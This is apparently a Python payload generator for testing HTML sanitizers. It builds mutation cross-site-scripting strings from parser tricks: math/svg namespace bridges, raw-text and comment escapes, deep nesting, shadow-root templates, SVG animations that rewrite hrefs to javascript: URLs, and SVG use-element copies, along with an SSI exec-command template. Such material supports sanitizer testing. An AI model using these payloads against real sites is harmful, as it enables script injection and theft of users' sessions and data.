"""Texts that change their meaning when they are read twice: nesting, raw text, comments."""

from itertools import cycle, product

from .words import ELSEWHERE, RUN

IMAGE = f"<img src=x onerror={RUN}>"
ROOTS = ("math", "svg")
# Where a foreign tree goes back to HTML, and what only looks like it.
BRIDGES = (
    "mtext", "mi", "mo", "mn", "ms", "annotation-xml", 'annotation-xml encoding="text/html"',
    "foreignObject", "desc", "title", "semantics", "p", "font color=red", "a href=/", "style",
)  # fmt: skip
FOSTERS = (
    "", "<table>", "<table><mglyph>", "<mglyph>", "<malignmark>", "<form></form><form>", "<p></p>",
    "</p>", "<br>", "<select>", "<svg></p>", "<table><caption><svg>", "<a><table><a>",
    "<dl><dt><h2>",
)  # fmt: skip
DEEP = (
    "p", "div", "ul", "blockquote", "table", "a", "strong", "svg", "math", "font", "x-y", "form",
)  # fmt: skip
RAW = ("style", "title", "textarea", "noscript", "xmp", "iframe", "noembed", "noframes", "script")
NEVER_CLOSED = ("plaintext", "listing", "select", "template", "table", "option", "button", "nobr")
COMMENTS = (
    "<!-->{}-->", "<!--->{}-->", "<!-- --!>{}-->", "<!--!>{}-->", "<!---!>{}-->",
    "<!-- <!-- -->{}-->", "<!--{}--!>", "<!--[if gte IE 4]>{}<![endif]-->",
    "<![if IE]>{}<![endif]>", "<![CDATA[{}]]>", "<![CDATA[>{}]]>",
    "<!DOCTYPE x [<!ENTITY y '{}'>]><p>&y;</p>", "<?xml version='1.0'?>{}", "<?php {} ?>", "<?{}>",
    "</ {}>", "</>{}", "<!x{}>", "<%{}%>", "<%= {} %>", "</#{}>", "<!--#exec cmd={}-->",
    "<svg><![CDATA[{}]]></svg>", "<math><![CDATA[</math>{}]]>", "<svg><!--</svg>{}-->",
    "<svg><?x </svg>{} ?>", "<style><!--</style>{}--></style>",
    "<script><!--<script></script>{}--></script>", "<!--\0>{}-->", "&lt;!--{}-->",
)  # fmt: skip


def mutations():
    """A foreign tree, a way back to HTML, and raw text whose end hides in an attribute."""
    fosters = cycle(FOSTERS)
    for root, bridge, raw in product(ROOTS, BRIDGES, RAW):
        start = f"<{root}><{bridge}>{next(fosters)}<{raw}>"
        yield f'{start}<a title="</{raw}>{IMAGE}">x</a>'


def mutations_behind_comments():
    bridges = cycle(BRIDGES)
    for root, foster, raw in product(ROOTS, FOSTERS, ("style", "title", "noscript")):
        start = f"<{root}><{next(bridges)}>{foster}<{raw}>"
        yield f"{start}<!--</{raw}>{IMAGE}-->"
        yield f'{start}<!--</{raw}><p id="--><!--">{IMAGE}'


def raw_text():
    for number, raw in enumerate(RAW):
        yield f'<{raw}><p title="</{raw}>{IMAGE}">x</p>'
        yield f"<{raw}></{raw[:-1]}\0{raw[-1]}>{IMAGE}</{raw}>"
        yield f"<{raw}></{raw} x='>{IMAGE}'></{raw}>{IMAGE}"
        yield f"<p><{raw}/>{IMAGE}</{raw}></p>"
        yield f"<{raw}><{raw}></{raw}>{IMAGE}</{raw}>"
        yield f"</{raw}>{IMAGE}<{raw}>"
        yield f"<{RAW[number - 1]}><{raw}></{RAW[number - 1]}></{raw}>{IMAGE}"
        yield f"<{raw[:2]}<{raw}>x</{raw}>{raw[2:]}>{RUN}</{raw}>"
        yield f"<{raw}>&lt;/{raw}&gt;{IMAGE}</{raw}>&lt;img src=x onerror={RUN}&gt;"


def never_closed():
    for name in NEVER_CLOSED:
        yield f"<{name}>{IMAGE}"
        yield f"<p><{name}><p>{IMAGE}</p>"
        yield f"<{name}><svg><style><{name}>{IMAGE}"
        yield f"<h2><{name}><h3>x</h3></{name}>{IMAGE}</h2>"
        yield f"<{name}><math><{name}><style>{IMAGE}</{name}>{IMAGE}"


def comments():
    for comment in COMMENTS:
        yield comment.format(IMAGE)
        yield comment.format(f"<script>{RUN}</script>")
        yield f"<p>x{comment.format(f'<svg onload={RUN}>')}y</p>"


def depths():
    """Trees so deep that parsers flatten them, and then put a thing where it was not."""
    for name in DEEP:
        for depth in (15, 255, 520):
            yield f"<{name}>" * depth + IMAGE
        yield "<svg><foreignObject>" * 20 + f"<{name}><style><a title='</style>{IMAGE}'>"
        yield "<math><mtext>" * 20 + f"<table><{name}><mglyph><style><!--</style>{IMAGE}-->"


def shadows():
    """Templates, also those that a browser turns into a tree of their own while it reads."""
    for mode in ("open", "closed", "OPEN "):
        for name in ("shadowrootmode", "shadowroot"):
            start = f"<p><template {name}={mode}>"
            yield f"{start}{IMAGE}</template></p>"
            yield f"{start}<slot></slot><script>{RUN}</script>"
            yield f"<x-y><template {name}={mode} shadowrootserializable><style>{IMAGE}"


def animations():
    """Pictures that change their own links and handlers while they are shown."""
    for tag in ("set", "animate", "animate begin=0s dur=1s", "animateTransform", "animateMotion"):
        for name in ("href", "xlink:href", "onclick", "HREF"):
            start = f"<svg><a><{tag} attributeName={name}"
            yield f"{start} to=javascript:{RUN} /><text y=9>x</text></a></svg>"
            yield f"{start} values='/;javascript:{RUN}' from=/ /></a></svg>"
        for event in ("onbegin", "onend", "onrepeat"):
            yield f"<svg><{tag} attributeName=x dur=1s {event}={RUN} /></svg>"
    for name in ("handler", "listener", "discard", "mpath", "script"):
        yield f"<svg xmlns:ev='x'><{name} ev:event=load type=text/javascript>{RUN}</{name}></svg>"


def copies():
    """Pictures that put a part of themselves or of another one somewhere else."""
    for source in ("data:image/svg+xml,<svg id='x' onload='hit()'/>#x", "#a", f"{ELSEWHERE}/u#x"):
        use = f'<use href="{source}"/><use xlink:href="{source}"/>'
        yield f"<svg>{use}</svg>"
        yield f"<svg><g id=a><foreignObject><p>{IMAGE}</p></foreignObject></g>{use}</svg>"
        yield f"<svg><defs><script id=a>{RUN}</script></defs>{use}</svg>"
